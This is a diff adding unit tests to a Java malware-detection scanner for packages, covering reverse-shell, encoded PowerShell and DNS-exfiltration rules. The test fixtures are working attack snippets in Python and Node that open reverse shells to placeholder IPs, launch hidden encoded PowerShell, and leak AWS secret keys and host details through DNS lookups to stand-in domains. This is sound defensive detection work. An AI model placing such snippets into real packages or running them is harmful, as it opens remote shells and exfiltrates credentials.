@@ -4,10 +4,12 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.portcullis.inspect.rules.ContentRule;
 import dev.portcullis.inspect.rules.CredentialHarvesting;
+import dev.portcullis.inspect.rules.DnsExfiltration;
 import dev.portcullis.inspect.rules.DownloadAndExecute;
 import dev.portcullis.inspect.rules.Exfiltration;
 import dev.portcullis.inspect.rules.ImportTimeSideEffects;
 import dev.portcullis.inspect.rules.Obfuscation;
+import dev.portcullis.inspect.rules.RemoteShell;
 import dev.portcullis.inspect.rules.SourceFile;
 import dev.portcullis.inspect.rules.StartupHooks;
 import dev.portcullis.inspect.rules.WalletDrainer;
@@ -309,5 +311,76 @@ class ContentRulesTest {
                                 "package/web3.js",
                                 "const ens = '0x00000000000C2E074eC69A0dFb2997BA6C7d2e1e';\nconst p = window.ethereum;\nif (res === fetch) {}\n"))
                 .isEmpty();
+    }
+
+    @Test
+    void remoteShells() {
+        String python = "import socket, os, pty\n"
+                + "def _init():\n"
+                + "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+                + "    s.connect(('203.0.113.9', 4444))\n"
+                + "    os.dup2(s.fileno(), 0)\n"
+                + "    os.dup2(s.fileno(), 1)\n"
+                + "    os.dup2(s.fileno(), 2)\n"
+                + "    pty.spawn('/bin/sh')\n";
+        Finding dup = only(new RemoteShell(), "pkg/__init__.py", python);
+        assertThat(dup.severity()).isEqualTo(Severity.HIGH);
+        assertThat(dup.line()).isEqualTo(5);
+        assertThat(dup.message()).contains("reverse shell").contains("pty.spawn");
+
+        String subprocess = "import socket,subprocess\nc=socket.create_connection(('198.51.100.4',443))\n"
+                + "subprocess.call(['/bin/sh','-i'],stdin=c.fileno(),stdout=c.fileno(),stderr=c.fileno())\n";
+        assertThat(only(new RemoteShell(), "setup.py", subprocess).severity()).isEqualTo(Severity.HIGH);
+
+        String node = "const net = require('net'), cp = require('child_process');\n"
+                + "const client = new net.Socket();\n"
+                + "client.connect(8443, '203.0.113.9', () => {\n"
+                + "  const sh = cp.spawn('/bin/sh', []);\n"
+                + "  client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client);\n"
+                + "});\n";
+        assertThat(only(new RemoteShell(), "package/index.js", node).severity()).isEqualTo(Severity.HIGH);
+
+        // Benign look-alikes: a daemon pointing its streams at /dev/null while also serving a socket; a build tool
+        // spawning a shell and piping it to the console while checking a port.
+        String daemon = "import os, socket\nsrv = socket.socket()\nsrv.bind(('', 8080))\n"
+                + "null = open(os.devnull)\nos.dup2(null.fileno(), 0)\n";
+        assertThat(check(new RemoteShell(), "daemon.py", daemon)).isEmpty();
+        String build = "const net = require('net');\nconst probe = net.connect(3000);\n"
+                + "const sh = require('child_process').spawn('sh', ['-c', cmd]);\nsh.stdout.pipe(process.stdout);\n";
+        assertThat(check(new RemoteShell(), "package/run.js", build)).isEmpty();
+    }
+
+    @Test
+    void encodedPowerShell() {
+        String dropper =
+                "import subprocess\nsubprocess.Popen(['powershell.exe', '-NoP', '-W', 'Hidden', '-EncodedCommand',"
+                        + " 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'])\n";
+        assertThat(only(new RemoteShell(), "pkg/win.py", dropper).severity()).isEqualTo(Severity.HIGH);
+        String shortForm = "os.system(\"powershell -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==\")\n";
+        assertThat(only(new RemoteShell(), "pkg/w.py", shortForm).severity()).isEqualTo(Severity.HIGH);
+        String docs = "subprocess.run(['powershell', '-NoProfile', '-Command', 'Get-ChildItem'])\n";
+        assertThat(check(new RemoteShell(), "pkg/tools.py", docs)).isEmpty();
+    }
+
+    @Test
+    void dnsExfiltration() {
+        String python = "import os, socket, binascii\n"
+                + "data = binascii.hexlify(os.environ.get('AWS_SECRET_ACCESS_KEY', '').encode()).decode()\n"
+                + "for i in range(0, len(data), 60):\n"
+                + "    socket.gethostbyname(data[i:i + 60] + '.x.oast-collector.example')\n";
+        Finding exfil = only(new DnsExfiltration(), "pkg/__init__.py", python);
+        assertThat(exfil.severity()).isEqualTo(Severity.HIGH);
+        assertThat(exfil.line()).isEqualTo(4);
+
+        String node = "const dns = require('dns'); const os = require('os');\n"
+                + "const id = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');\n"
+                + "dns.lookup(`${id}.d.example.net`, () => {});\n";
+        assertThat(only(new DnsExfiltration(), "package/postinstall.js", node).severity())
+                .isEqualTo(Severity.HIGH);
+
+        // Benign: resolving a configured host; hex elsewhere in the file without a built name.
+        String client = "import os, socket\nhost = os.environ.get('DB_HOST', 'localhost')\n"
+                + "addr = socket.gethostbyname(host)\ntoken = os.urandom(8).hex()\n";
+        assertThat(check(new DnsExfiltration(), "pkg/db.py", client)).isEmpty();
     }
 }
